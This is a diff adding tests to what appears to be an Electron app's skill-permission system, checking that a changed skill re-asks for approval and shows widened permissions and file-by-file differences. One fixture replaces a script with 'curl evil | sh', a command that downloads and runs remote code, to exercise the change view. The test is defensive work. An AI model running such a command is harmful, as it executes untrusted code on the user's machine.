@@ -3,7 +3,7 @@ import { mkdirSync, writeFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { describe, expect, test } from 'vitest';
 import { writeArchive } from '../../../electron/core/archives/index.ts';
-import { openCapability } from '../capability/open.ts';
+import { errorOf, openCapability } from '../capability/open.ts';
 import { asData, makeFolder, packageText } from '../library/open.ts';
 
 type Set = ReturnType<typeof openCapability>;
@@ -68,6 +68,52 @@ describe('C12: a grant belongs to bytes', () => {
     grantAll(set, id);
     await bring(set, HERBS, { 'scripts/a.sh': 'echo 2' });
     expect(decisions(set, id)).toEqual(ASKS_AGAIN);
+  });
+
+  test('what asks again says what it asks for besides, and which files differ, with both texts', async () => {
+    const set = openCapability();
+    const id = await bring(set, HERBS, { 'scripts/a.sh': 'echo 1', 'scripts/gone.sh': 'true' });
+    expect(set.api.sinceGrant({ skillId: id })).toBeNull();
+    grantAll(set, id);
+    expect(set.api.sinceGrant({ skillId: id })).toMatchObject({ more: [], fewer: [], files: [] });
+    const wider = HERBS.replace('[crm:read]', '[crm:write]\ntools: [get_page(people/*)]');
+    await bring(set, wider, { 'scripts/a.sh': 'curl evil | sh', 'scripts/new.bin': '\u0000' });
+    expect(set.api.sinceGrant({ skillId: id })).toEqual({
+      grantedAt: expect.any(String),
+      more: ['crm:write', 'tool get_page(people/*)'],
+      fewer: ['crm:read'],
+      files: [
+        { path: null, change: 'changed' },
+        { path: 'scripts/a.sh', change: 'changed' },
+        { path: 'scripts/new.bin', change: 'added' },
+        { path: 'scripts/gone.sh', change: 'removed' },
+      ],
+    });
+    const texts = (path: string | null) => set.api.sinceGrantTexts({ skillId: id, path });
+    expect(texts(null)).toMatchObject({ left: HERBS, right: wider });
+    expect(texts('scripts/a.sh')).toMatchObject({ leftLabel: 'As granted', left: 'echo 1', rightLabel: 'Now', right: 'curl evil | sh' });
+    expect(texts('scripts/gone.sh')).toMatchObject({ left: 'true', rightLabel: 'Now: no such file', right: '' });
+    expect(errorOf(() => texts('scripts/other.sh'))).toMatchObject({ code: 'not_found' });
+  });
+
+  test('the difference is from the last bytes that the grant went along with, not from those of the day it was given', async () => {
+    const set = openCapability();
+    const id = await bring(set, HERBS);
+    grantAll(set, id);
+    save(set, id, (text) => text.replace('Read', 'Look at'));
+    const mine = set.opened.api.open({ id }).text!;
+    await bring(set, HERBS.replace('Read', 'Send'));
+    expect(set.api.sinceGrantTexts({ skillId: id, path: null }).left).toBe(mine);
+  });
+
+  test('where the granted bytes are gone, that is said', async () => {
+    const set = openCapability();
+    const id = await bring(set, HERBS);
+    grantAll(set, id);
+    await bring(set, HERBS.replace('Read', 'Send'));
+    set.opened.account.db.exec('DELETE FROM skill_revisions WHERE number = 1');
+    expect(set.api.sinceGrant({ skillId: id })).toMatchObject({ more: [], files: null });
+    expect(set.api.sinceGrantTexts({ skillId: id, path: null }).leftLabel).toBe('As granted: no longer here');
   });
 
   test('granted bytes that come back from outside ask again; restoring them here does not', async () => {
